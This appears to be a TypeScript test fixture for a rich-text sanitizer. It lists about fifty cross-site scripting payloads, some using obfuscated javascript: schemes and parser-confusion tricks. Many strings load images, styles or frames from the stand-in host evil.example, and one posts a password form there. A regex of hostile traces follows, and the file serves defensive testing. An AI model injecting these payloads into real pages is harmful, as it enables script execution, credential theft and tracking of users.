// Hostile rich text: what people really write to break a page. Every column that keeps rich text is tried with all of it.

/** An address that rich text may show. */
export const ownPicture = '/prod-api/merchant-api/file/content/0123456789abcdefghijklmnopqrstuv.png'

export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="//evil.example/x.png">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="password"><button>x</button></form>',
  '<p style="background: url(https://evil.example/t.gif)">x</p>',
  '<section style="background-image: url(https://evil.example/t.gif)">x</section>',
  '<img src="https://evil.example/x.png">',
  '<img src="HTTPS://evil.example/x.png">',
  '<img src="\\t//evil.example/x.png">',
  '<img src="/\\evil.example/x.png">',
  '<img src="/prod-api/merchant-api/file/content/../../../evil.example">',
  `<img src="https://evil.example${ownPicture}">`,
  `<img src="${ownPicture}" srcset="https://evil.example/x.png 2x" lowsrc="https://evil.example/x.png" longdesc="https://evil.example">`,
  '<picture><source srcset="https://evil.example/x.png"><img src="https://evil.example/x.png"></picture>',
  '<video src="https://evil.example/x.mp4"></video>',
  '<video><source src="https://evil.example/x.mp4"><track src="https://evil.example/x.vtt"></video>',
  `<video src="${ownPicture.replace('png', 'mp4')}" poster="https://evil.example/x.png"></video>`,
  '<audio src="https://evil.example/x.mp3"></audio>',
  '<input type="image" src="https://evil.example/x.png">',
  '<table background="https://evil.example/x.png"><tbody><tr><td background="https://evil.example/x.png">x</td></tr></tbody></table>',
  `<section style="background-image: url(${ownPicture}), url(https://evil.example/t.gif)">x</section>`,
  '<section style="background-image: image-set(\'https://evil.example/t.gif\' 1x)">x</section>',
  '<section style="background-image: u\\72l(https://evil.example/t.gif)">x</section>',
  '<ul style="list-style-image: url(https://evil.example/t.gif)"><li>x</li></ul>',
  '<p style="cursor: url(https://evil.example/t.gif), auto">x</p>',
  '<p style="border-image: url(https://evil.example/t.gif) 1">x</p>',
  '<p style="position: fixed; top: 0; width: 100vw">x</p>',
  '<p style="color: expression(alert(1))">x</p>',
  '<p style="behavior: url(x.htc)">x</p>',
  '<style>body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<video src="x" onloadstart=alert(1) autoplay></video>',
  '<p onclick="alert(1)" id="x" class="y" data-x="z">x</p>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<isindex action="javascript:alert(1)">',
]

/** None of this may be left in what is kept or shown. */
export const hostileTraces =
  /script|onerror|onload|onclick|javascript|vbscript|data:|evil\.example|expression|behavior|position|<(svg|math|iframe|object|embed|form|input|style|link|meta|base|template|textarea)/i

/** Marks that are written out are text, and do nothing. */
export const asRead = (html: string): string => html.replace(/&lt;|&gt;|&amp;/g, '')
